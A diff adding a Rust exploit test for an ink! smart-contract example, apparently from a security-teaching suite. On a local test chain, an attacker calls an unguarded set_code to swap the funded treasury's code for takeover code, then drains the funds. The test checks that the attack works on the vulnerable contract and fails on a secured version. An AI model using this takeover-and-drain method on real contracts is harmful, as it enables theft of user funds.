@@ -0,0 +1,63 @@
+//! Anyone swaps the treasury's code for a contract that pays them
+
+use anyhow::{ensure, Result as AnyResult};
+use ink::primitives::AccountId;
+use ink::scale::Encode;
+
+use crate::{
+    account_id, attacker, message, owner, victim, Balance, Chain, Constructor, ExploitSpec,
+};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unprotected_upgrade",
+    description: "set_code to the attacker's Takeover code, then drain",
+    must_succeed: || {
+        Box::pin(attack(
+            "unprotected_upgrade",
+            unprotected_upgrade::unprotected_upgrade::TreasuryRef::new,
+        ))
+    },
+    must_fail: || {
+        Box::pin(attack(
+            "unprotected_upgrade_secure",
+            unprotected_upgrade_secure::unprotected_upgrade::TreasuryRef::new,
+        ))
+    },
+    rejection: "CouldNotReadInput",
+};
+
+const TREASURY_FUNDS: Balance = 10_000_000_000_000;
+
+async fn attack<C, A, R>(
+    contract: &'static str,
+    new: fn(AccountId) -> Constructor<C, A, R>,
+) -> AnyResult<()>
+where
+    C: Clone,
+    A: Encode + Clone + Send + Sync,
+{
+    let mut chain = Chain::new().await?;
+    let treasury = chain
+        .deploy(contract, &owner(), new(account_id(&owner())))
+        .await?;
+    chain
+        .send(&victim(), &message!(treasury, "fund"()), TREASURY_FUNDS)
+        .await?;
+
+    // Only the code is uploaded; the treasury's address and storage stay
+    let takeover = chain
+        .upload("unprotected_upgrade_attacker", &attacker())
+        .await?;
+    chain
+        .send(&attacker(), &message!(treasury, "set_code"(takeover)), 0)
+        .await?;
+
+    let attacker_id = account_id(&attacker());
+    let before = chain.balance(attacker_id).await?;
+    chain
+        .send(&attacker(), &message!(treasury, "drain"()), 0)
+        .await?;
+    let gained = chain.balance(attacker_id).await?.saturating_sub(before);
+    ensure!(gained > TREASURY_FUNDS / 2, "attacker gained only {gained}");
+    Ok(())
+}